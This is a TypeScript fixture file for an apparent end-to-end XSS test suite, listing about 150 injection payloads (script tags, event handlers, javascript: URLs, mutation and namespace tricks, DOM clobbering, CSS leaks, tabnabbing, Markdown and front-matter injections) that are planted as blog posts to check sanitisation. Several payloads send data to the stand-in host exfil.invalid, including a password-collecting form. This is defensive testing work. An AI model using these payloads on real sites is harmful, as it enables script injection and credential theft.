/**
 * The XSS suite's vectors, as data: each one becomes its own post of the e2e fixture site, so
 * whatever it manages to do is attributed to it alone. Written for this project.
 *
 * A vector "ran" when it set `window.__bsXss`, opened a dialog, moved the tab off the app's
 * origin, or made the page request the attacker's host (`exfil.invalid`, which no legitimate
 * post content names). test/e2e/xss.test.ts watches for all four.
 */

/** Set by any payload that runs. */
export const XSS_GLOBAL = '__bsXss';

/** The attacker's host: any request to it from the app's page means a vector reached the network. */
export const ATTACKER_HOST = 'exfil.invalid';
export const ATTACKER = `https://${ATTACKER_HOST}`;

/** The fixture archive's own host (`url` in content/_config.yml): links to it become in-app links. */
export const OWN_HOST = 'news.example-archive.cn';

export type VectorClass =
  | 'script'
  | 'event-handler'
  | 'script-url'
  | 'namespace-confusion'
  | 'mutation'
  | 'srcdoc-base-meta'
  | 'form'
  | 'dom-clobbering'
  | 'css'
  | 'tabnabbing'
  | 'off-site-link'
  | 'markdown'
  | 'front-matter';

export type XssVector = {
  kind: VectorClass;
  /** Short name for the report. */
  name: string;
  /** The post body (HTML, or Markdown for the markdown class). */
  body: string;
  /** Front-matter values that replace the defaults (YAML scalars, written JSON-quoted). */
  frontMatter?: { title?: string; category?: string; tag?: string };
};

const set = `window.${XSS_GLOBAL}=1`;
const setParent = `parent.${XSS_GLOBAL}=1`;
const leak = `fetch('${ATTACKER}/leak')`;

const scripts: [string, string][] = [
  ['plain', `<script>${set}</script>`],
  ['upper case', `<SCRIPT>${set}</SCRIPT>`],
  ['remote src', `<script src="${ATTACKER}/x.js"></script>`],
  ['data src', `<script src="data:text/javascript,${set}"></script>`],
  ['module', `<script type="module">${set}</script>`],
  ['slash attribute', `<script/x>${set}</script>`],
  ['split tags', `<scr<script>ipt>${set}</scr</script>ipt>`],
  ['double open', `<<script>${set}//<</script>`],
  ['unclosed', `<script>${set}`],
  ['after comment', `<!--<script>--><script>${set}</script>`],
  ['in svg', `<svg><script>${set}</script></svg>`],
  ['svg href', `<svg><script href="data:,${set}"></script></svg>`],
  ['in math', `<math><script>${set}</script></math>`],
  ['event attributes', `<script for="window" event="onload">${set}</script>`],
  ['encoded eval', `<script>eval(atob('${btoa(set)}'))</script>`],
  ['line separator', `<script>\u2028${set}</script>`],
  ['fetch leak', `<script>${leak}</script>`],
  ['in table', `<table><tr><td><script>${set}</script></td></tr></table>`],
  ['language', `<script language="javascript">${set}</script>`],
  ['nested in p', `<p>段落<script>${set}</script>继续</p>`],
];

const handlers: [string, string][] = [
  ['img onerror', `<img src="x-missing.png" onerror="${set}">`],
  ['img onload', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${set}">`],
  ['unquoted onerror', `<img src=x onerror=${set}>`],
  ['slash separated', `<img/src="x"/onerror="${set}">`],
  ['entity in handler', `<img src=x onerror="window.&#95;&#95;bsXss=1">`],
  ['body onload', `<body onload="${set}">`],
  ['svg onload', `<svg onload="${set}"></svg>`],
  ['svg image onload', `<svg><image href="x-missing.png" onerror="${set}"></image></svg>`],
  ['input autofocus', `<input autofocus onfocus="${set}">`],
  ['select autofocus', `<select autofocus onfocus="${set}"><option>一</option></select>`],
  ['textarea autofocus', `<textarea autofocus onfocus="${set}"></textarea>`],
  ['details ontoggle', `<details open ontoggle="${set}"><summary>摘要</summary>内容</details>`],
  ['video onerror', `<video src="x-missing.mp4" onerror="${set}"></video>`],
  ['audio onerror', `<audio src="x-missing.mp3" onerror="${set}"></audio>`],
  ['source onerror', `<video><source src="x-missing.webm" onerror="${set}"></video>`],
  ['video poster', `<video poster="x-missing.png" onloadstart="${set}"></video>`],
  ['iframe onload', `<iframe onload="${set}"></iframe>`],
  ['object onerror', `<object data="x-missing.swf" onerror="${set}"></object>`],
  ['embed onload', `<embed src="x-missing.swf" onload="${set}">`],
  ['marquee onstart', `<marquee onstart="${set}">滚动</marquee>`],
  ['a onmouseover', `<a href="/" onmouseover="${set}">悬停链接</a>`],
  ['p onclick', `<p onclick="${set}">点击段落</p>`],
  ['div onpointerenter', `<div onpointerenter="${set}">指针区域</div>`],
  ['span onmousemove', `<span onmousemove="${set}">移动区域</span>`],
  ['button onclick', `<button onclick="${set}">按钮</button>`],
  ['form onsubmit', `<form onsubmit="${set}"><button>提交</button></form>`],
  ['h1 onfocusin', `<h1 tabindex="0" onfocusin="${set}">标题</h1>`],
  ['td onclick', `<table><tr><td onclick="${set}">单元格</td></tr></table>`],
  ['style onload', `<style onload="${set}"></style>`],
  ['link onload', `<link rel="stylesheet" href="x-missing.css" onload="${set}" onerror="${set}">`],
  ['animation start', `<div style="animation:spin 1s" onanimationstart="${set}">动画</div>`],
  [
    'svg animate onbegin',
    `<svg><animate onbegin="${set}" attributeName="x" dur="1s"></animate></svg>`,
  ],
  ['svg set onbegin', `<svg><set onbegin="${set}" attributeName="x" to="1"></set></svg>`],
  ['frameset onload', `<frameset onload="${set}"></frameset>`],
  ['keyboard', `<div contenteditable onkeydown="${set}">可编辑</div>`],
  ['img onmouseover', `<img src="x-missing.png" alt="图" onmouseover="${set}">`],
  ['mixed case handler', `<img src=x OnErRoR="${set}">`],
  ['newline before handler', `<img src=x\nonerror="${set}">`],
];

const urlTargets: [string, (url: string) => string][] = [
  ['a href', (url) => `<a href="${url}">链接</a>`],
  ['iframe src', (url) => `<iframe src="${url}"></iframe>`],
  ['form action', (url) => `<form action="${url}"><button>提交</button></form>`],
  ['object data', (url) => `<object data="${url}"></object>`],
  ['embed src', (url) => `<embed src="${url}">`],
  ['area href', (url) => `<map name="m"><area href="${url}" shape="rect" coords="0,0,9,9"></map>`],
  ['svg a href', (url) => `<svg><a href="${url}"><text x="5" y="15">矢量</text></a></svg>`],
  ['svg xlink', (url) => `<svg><a xlink:href="${url}"><text x="5" y="15">矢量</text></a></svg>`],
  ['img src', (url) => `<img src="${url}">`],
];

const scriptUrls: [string, string][] = [
  ['plain', `javascript:${set}`],
  ['case', `JaVaScRiPt:${set}`],
  ['decimal entity', `&#106;avascript:${set}`],
  ['hex entity', `&#x6A;&#x61;vascript:${set}`],
  ['padded entity', `&#0000106avascript:${set}`],
  ['colon entity', `javascript&colon;${set}`],
  ['tab entity', `java&Tab;script:${set}`],
  ['tab', `java\tscript:${set}`],
  ['newline', `java\nscript:${set}`],
  ['leading space', `   javascript:${set}`],
  ['control character', `\u0001javascript:${set}`],
  ['vbscript', `vbscript:msgbox(1)`],
  ['data html', `data:text/html,<script>${set}</script>`],
  ['data base64', `data:text/html;base64,${btoa(`<script>${set}</script>`)}`],
  ['data svg', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${set}"/>`],
];

const urlVectors: [string, string][] = [
  ...scriptUrls.map(([name, url]): [string, string] => [
    `${name} in a href`,
    `<a href="${url}">链接</a>`,
  ]),
  ...urlTargets
    .filter(([name]) => name !== 'a href')
    .map(([name, wrap]): [string, string] => [`javascript in ${name}`, wrap(`javascript:${set}`)]),
  [
    'data svg in img',
    `<img src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${set}"/>`)}">`,
  ],
  ['entity javascript in iframe', `<iframe src="&#106;avascript:${setParent}"></iframe>`],
];

const namespaces: [string, string][] = [
  ['svg p style', `<svg></p><style><a id="</style><img src=1 onerror=${set}>">`],
  [
    'mglyph style',
    `<math><mtext><table><mglyph><style><img src=x onerror=${set}></style></mglyph></table></mtext></math>`,
  ],
  [
    'mglyph svg textarea',
    `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${set} src=1>"></textarea></mtext></svg></mglyph></mi></math>`,
  ],
  ['form math', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${set}>`],
  ['svg style', `<svg><style><img src=x onerror=${set}></style></svg>`],
  ['foreignObject', `<svg><foreignObject><img src=x onerror="${set}"></foreignObject></svg>`],
  [
    'annotation-xml',
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${set}"></annotation-xml></math>`,
  ],
  ['svg desc', `<svg><desc><img src=x onerror="${set}"></desc></svg>`],
  ['svg title', `<svg><title><img src=x onerror="${set}"></title></svg>`],
  ['math href', `<math href="javascript:${set}"><mi>点击</mi></math>`],
  [
    'svg animate href',
    `<svg><animate attributeName="href" values="javascript:${set}"></animate><a><text x="5" y="15">矢量</text></a></svg>`,
  ],
  ['svg set handler', `<svg><set attributeName="onmouseover" to="${set}"></set></svg>`],
  [
    'svg use data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${set}'/></svg>#x"></use></svg>`,
  ],
  ['math mtext img', `<math><mtext><img src=x onerror="${set}"></mtext></math>`],
];

const mutations: [string, string][] = [
  ['noscript title', `<noscript><p title="</noscript><img src=x onerror=${set}>"></p></noscript>`],
  ['template img', `<template><img src=x onerror="${set}"></template>`],
  ['template script', `<template><script>${set}</script></template>`],
  ['textarea content', `<textarea><img src=x onerror="${set}"></textarea>`],
  ['textarea close', `<textarea></textarea><img src=x onerror="${set}">`],
  ['style content', `<style><img src=x onerror="${set}"></style>`],
  ['title content', `<title><img src=x onerror="${set}"></title>`],
  ['xmp', `<xmp><img src=x onerror="${set}"></xmp>`],
  ['iframe content', `<iframe><img src=x onerror="${set}"></iframe>`],
  ['noembed', `<noembed><img src=x onerror="${set}"></noembed>`],
  ['noframes', `<noframes><img src=x onerror="${set}"></noframes>`],
  ['comment', `<!--><img src=x onerror="${set}">-->`],
  ['cdata', `<![CDATA[><img src=x onerror="${set}">]]>`],
  [
    'select template style',
    `<select><template><style><img src=x onerror="${set}"></style></template></select>`,
  ],
  ['backtick attribute', '<img src=`x` onerror=`' + set + '`>'],
  ['attribute breakout', `<a title="</a><img src=x onerror=${set}>">链接</a>`],
];

const documentLevel: [string, string][] = [
  ['srcdoc script', `<iframe srcdoc="<script>${setParent}</script>"></iframe>`],
  ['srcdoc entities', `<iframe srcdoc="&lt;img src=x onerror=${setParent}&gt;"></iframe>`],
  [
    'base href',
    `<base href="${ATTACKER}/"><img src="pixel.png" alt="像素"><a href="page">相对链接</a>`,
  ],
  ['base target', `<base target="_top"><a href="${ATTACKER}/top">外链</a>`],
  ['meta refresh attacker', `<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">`],
  ['meta refresh javascript', `<meta http-equiv="refresh" content="0;url=javascript:${set}">`],
  [
    'meta csp',
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><img src=x onerror="${set}">`,
  ],
  ['meta cookie', `<meta http-equiv="set-cookie" content="bs=1">`],
  ['link prefetch', `<link rel="prefetch" href="${ATTACKER}/prefetch">`],
  ['link import', `<link rel="import" href="${ATTACKER}/import.html">`],
  ['embed data', `<embed src="data:text/html,<script>${setParent}</script>">`],
  ['object data html', `<object data="data:text/html,<script>${setParent}</script>"></object>`],
];

const forms: [string, string][] = [
  [
    'attacker action',
    `<form action="${ATTACKER}/collect"><input name="q" value="秘密"><button>提交</button></form>`,
  ],
  ['formaction', `<form><button formaction="javascript:${set}">按钮</button></form>`],
  ['input image', `<input type="image" src="x-missing.png" formaction="javascript:${set}">`],
  [
    'form attribute',
    `<form id="f1"></form><button form="f1" formaction="${ATTACKER}/collect">按钮</button>`,
  ],
  ['isindex', `<isindex action="javascript:${set}" type="image">`],
  [
    'password field',
    `<form action="${ATTACKER}/login"><input type="password" name="password" autocomplete="current-password"><input type="submit" value="登录"></form>`,
  ],
  [
    'submit javascript',
    `<form action="javascript:${set}"><input type="submit" value="提交"></form>`,
  ],
];

const clobbering: [string, string][] = [
  ['flag global by id', `<a id="${XSS_GLOBAL}" href="x">链接</a>`],
  ['flag global by name', `<img name="${XSS_GLOBAL}" src="x-missing.png">`],
  ['document.getElementById', `<img name="getElementById" src="x-missing.png">`],
  ['document.cookie', `<form name="cookie"></form>`],
  ['document.body', `<img name="body" src="x-missing.png">`],
  ['document.currentScript', `<img name="currentScript" src="x-missing.png">`],
  ['document.defaultView', `<iframe name="defaultView"></iframe>`],
  ['app root', `<div id="root">假根</div>`],
  ['workbox global', `<a id="workbox" href="x">链接</a>`],
  [
    'trustedTypes',
    `<img id="trustedTypes" src="x-missing.png"><img name="trustedTypes" src="x-missing.png">`,
  ],
  [
    'collection',
    `<a id="defaultPolicy"></a><a id="defaultPolicy" name="createHTML" href="javascript:${set}"></a>`,
  ],
  ['attributes', `<form id="f2"><input name="attributes"></form>`],
];

const css: [string, string][] = [
  [
    'fixed overlay',
    `<div style="position:fixed;inset:0;z-index:99999;background:#c00">覆盖层</div>`,
  ],
  ['app utility classes', `<div class="fixed inset-0 z-50 bg-black text-white">覆盖层</div>`],
  ['hide the page', `<style>body{display:none}</style>`],
  ['import', `<style>@import url(${ATTACKER}/a.css);</style>`],
  ['attribute selector leak', `<style>a[href^="/"]{background:url(${ATTACKER}/leak)}</style>`],
  ['background url', `<div style="background-image:url(${ATTACKER}/bg)">背景</div>`],
  ['stylesheet link', `<link rel="stylesheet" href="${ATTACKER}/x.css">`],
  ['expression', `<div style="width:expression(${set})">旧IE</div>`],
  ['javascript url in css', `<div style="background:url(javascript:${set})">样式</div>`],
  ['svg style leak', `<svg><style>*{fill:url(${ATTACKER}/svg)}</style></svg>`],
  [
    'full-screen image',
    `<img src="x-missing.png" style="position:absolute;top:0;left:0;width:100vw;height:100vh">`,
  ],
  [
    'font face',
    `<style>@font-face{font-family:x;src:url(${ATTACKER}/font)}</style><p style="font-family:x">字</p>`,
  ],
];

const tabnabbing: [string, string][] = [
  ['target blank', `<a href="${ATTACKER}/tab" target="_blank">新窗口</a>`],
  ['target top', `<a href="${ATTACKER}/top" target="_top">顶层</a>`],
  ['rel opener', `<a href="${ATTACKER}/opener" target="_blank" rel="opener">保留引用</a>`],
  ['target self', `<a href="${ATTACKER}/self" target="_self">本窗口</a>`],
  ['named target', `<a href="${ATTACKER}/named" target="content">命名窗口</a>`],
];

const offSite: [string, string][] = [
  ['own host doubled slash', `http://${OWN_HOST}//${ATTACKER_HOST}/x`],
  ['dot segment', `/.//${ATTACKER_HOST}/`],
  ['own host dot segment', `https://${OWN_HOST}/.//${ATTACKER_HOST}/`],
  ['protocol relative', `//${ATTACKER_HOST}/`],
  ['triple slash', `///${ATTACKER_HOST}/`],
  ['backslash', `/\\${ATTACKER_HOST}`],
  ['double backslash', `\\\\${ATTACKER_HOST}/`],
  ['scheme backslash', `https:/\\${ATTACKER_HOST}/`],
  ['encoded slashes', `/%2F%2F${ATTACKER_HOST}/`],
  ['encoded backslash', `/%5C${ATTACKER_HOST}/`],
  ['tab in slashes', `/\t/${ATTACKER_HOST}/`],
  ['userinfo', `http://${OWN_HOST}@${ATTACKER_HOST}/`],
  ['lookalike host', `http://${OWN_HOST}.${ATTACKER_HOST}/`],
  ['leading space', ` //${ATTACKER_HOST}/`],
];

const markdown: [string, string][] = [
  ['link javascript', `[点我](javascript:${set})`],
  ['link upper case', `[点我](JAVASCRIPT:${set})`],
  ['angle link', `[点我](<javascript:${set}>)`],
  ['autolink', `<javascript:${set}>`],
  ['image javascript', `![图](javascript:${set})`],
  ['image attribute breakout', `![图](x-missing.png" onerror="${set})`],
  ['reference link', `[点我][r]\n\n[r]: javascript:${set}`],
  ['data link', `[点我](data:text/html;base64,${btoa(`<script>${set}</script>`)})`],
  ['protocol-relative link', `[点我](//${ATTACKER_HOST}/md)`],
  ['entity link', `[点我](javas&#99;ript:${set})`],
  ['title breakout', `[点我](/ "x\\" onmouseover=\\"${set}")`],
  ['raw html', `一段文字 <img src=x onerror="${set}"> 继续`],
];

const frontMatter: [string, NonNullable<XssVector['frontMatter']>][] = [
  ['title closes title', { title: `</title><script>${set}</script>` }],
  ['title attribute breakout', { title: `"><img src=x onerror=${set}>` }],
  ['title closes json-ld', { title: `</script><script>${set}</script>` }],
  ['title ends cdata', { title: `]]><script>${set}</script>` }],
  ['title line separators', { title: `分隔\u2028符\u2029<script>${set}</script>` }],
  ['title comment', { title: `<!--<script>${set}</script>-->` }],
  ['category markup', { category: `<img src=x onerror=${set}>` }],
  ['category quote', { category: `"><svg onload=${set}>` }],
  ['tag script', { tag: `<script>${set}</script>` }],
  ['tag attribute breakout', { tag: `' onmouseover='${set}` }],
  ['tag javascript url', { tag: `javascript:${set}` }],
];

function fromPairs(kind: VectorClass, pairs: readonly [string, string][]): XssVector[] {
  return pairs.map(([name, body]) => ({ kind, name, body }));
}

export const xssVectors: readonly XssVector[] = [
  ...fromPairs('script', scripts),
  ...fromPairs('event-handler', handlers),
  ...fromPairs('script-url', urlVectors),
  ...fromPairs('namespace-confusion', namespaces),
  ...fromPairs('mutation', mutations),
  ...fromPairs('srcdoc-base-meta', documentLevel),
  ...fromPairs('form', forms),
  ...fromPairs('dom-clobbering', clobbering),
  ...fromPairs('css', css),
  ...fromPairs('tabnabbing', tabnabbing),
  ...offSite.map(([name, href]): XssVector => ({
    kind: 'off-site-link',
    name,
    body: `<a href="${href}">站外链接</a>`,
  })),
  ...fromPairs('markdown', markdown),
  ...frontMatter.map(([name, values]): XssVector => ({
    kind: 'front-matter',
    name,
    body: `<p>前置数据里藏着标记。<a href="/">首页</a></p>`,
    frontMatter: values,
  })),
  {
    kind: 'front-matter',
    name: 'excerpt of escaped markup',
    // The excerpt is the body's text, so escaped markup in the body is markup in every summary.
    body: `<p>&lt;img src=x onerror=${set}&gt;摘要里的标记</p>`,
  },
];

/** The category every vector post is filed under unless it brings its own. */
export const XSS_CATEGORY = 'xiangliang';

export type VectorPost = { file: string; path: string; date: string; title: string };

/**
 * Where vector `index` lives: dated in 2023, before every demo post, with its own permalink so a
 * hostile category cannot move it. Markdown vectors are `.md`, the rest `.html` (no Markdown pass).
 */
export function getVectorPost(index: number, vector: XssVector): VectorPost {
  const day = new Date(Date.UTC(2023, 0, 1) + index * 86_400_000).toISOString().slice(0, 10);
  const slug = `xss-${String(index).padStart(3, '0')}`;
  return {
    file: `${day}-${slug}.${vector.kind === 'markdown' ? 'md' : 'html'}`,
    path: `/${XSS_CATEGORY}/${slug}.html`,
    date: `${day} 12:00:00 +0800`,
    title: vector.frontMatter?.title ?? `向量 ${index}：${vector.name}`,
  };
}

/** The post file of one vector: front matter, the body, and a marker the test waits for. */
export function renderVectorPost(index: number, vector: XssVector): string {
  const post = getVectorPost(index, vector);
  const lines = [
    `title: ${JSON.stringify(post.title)}`,
    `date: ${post.date}`,
    `permalink: ${post.path}`,
    `categories: [${XSS_CATEGORY}]`,
    ...(vector.frontMatter?.category !== undefined
      ? [`category: ${JSON.stringify(vector.frontMatter.category)}`]
      : []),
    `tags: [${JSON.stringify(vector.frontMatter?.tag ?? '安全向量')}]`,
  ];
  return `---\n${lines.join('\n')}\n---\n${vector.body}\n\n<p>${VECTOR_END}</p>\n`;
}

/** Text after every vector: once it shows, the body has rendered. */
export const VECTOR_END = '向量正文结束。';
